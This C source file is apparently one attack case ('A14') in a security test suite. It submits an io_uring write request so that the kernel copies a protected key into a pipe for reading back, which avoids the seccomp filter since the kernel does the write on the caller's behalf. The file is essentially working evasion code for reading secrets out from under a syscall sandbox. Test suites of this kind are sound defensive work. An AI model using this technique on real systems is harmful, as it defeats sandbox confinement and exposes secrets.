// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception
//
// A14: io_uring copies on the caller's behalf and seccomp sees none of it.
#include "evil.h"

#include <linux/io_uring.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct ring {
    int fd;
    struct io_uring_params params;
    unsigned char *queue;
    struct io_uring_sqe *entries;
};

static int open_ring(struct ring *ring) {
    size_t size;

    memset(&ring->params, 0, sizeof ring->params);
    ring->fd = (int)syscall(SYS_io_uring_setup, 1, &ring->params);
    if (ring->fd < 0)
        return evil_failed("io_uring_setup");
    size = ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe);
    ring->queue = mmap(NULL, size + 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring->fd,
                       IORING_OFF_SQ_RING);
    ring->entries = mmap(NULL, sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                         ring->fd, IORING_OFF_SQES);
    if (ring->queue == MAP_FAILED || (void *)ring->entries == MAP_FAILED)
        return evil_cannot("mmap of the ring");
    return EVIL_SUCCEEDED;
}

int evil_io_uring(const struct evil_target *target) {
    unsigned char copy[EVIL_KEY_MAX];
    size_t size = target->key_size < sizeof copy ? target->key_size : sizeof copy;
    struct ring ring;
    struct io_uring_cqe *done;
    int ends[2];
    int opened = open_ring(&ring);

    if (opened != EVIL_SUCCEEDED)
        return opened;
    if (pipe(ends) != 0)
        return evil_cannot("pipe");
    memset(ring.entries, 0, sizeof *ring.entries);
    ring.entries->opcode = IORING_OP_WRITE;
    ring.entries->fd = ends[1];
    ring.entries->addr = (uintptr_t)target->key;
    ring.entries->len = (uint32_t)size;
    ((uint32_t *)(ring.queue + ring.params.sq_off.array))[0] = 0;
    __atomic_store_n((uint32_t *)(ring.queue + ring.params.sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring.fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
        return evil_failed("io_uring_enter");
    done = (struct io_uring_cqe *)(ring.queue + ring.params.cq_off.cqes);
    if (done->res != (int)size)
        return evil_failed_because("io_uring's write gave %d", done->res);
    if (read(ends[0], copy, size) != (ssize_t)size)
        return evil_cannot("read");
    return evil_got(target, copy, "io_uring");
}
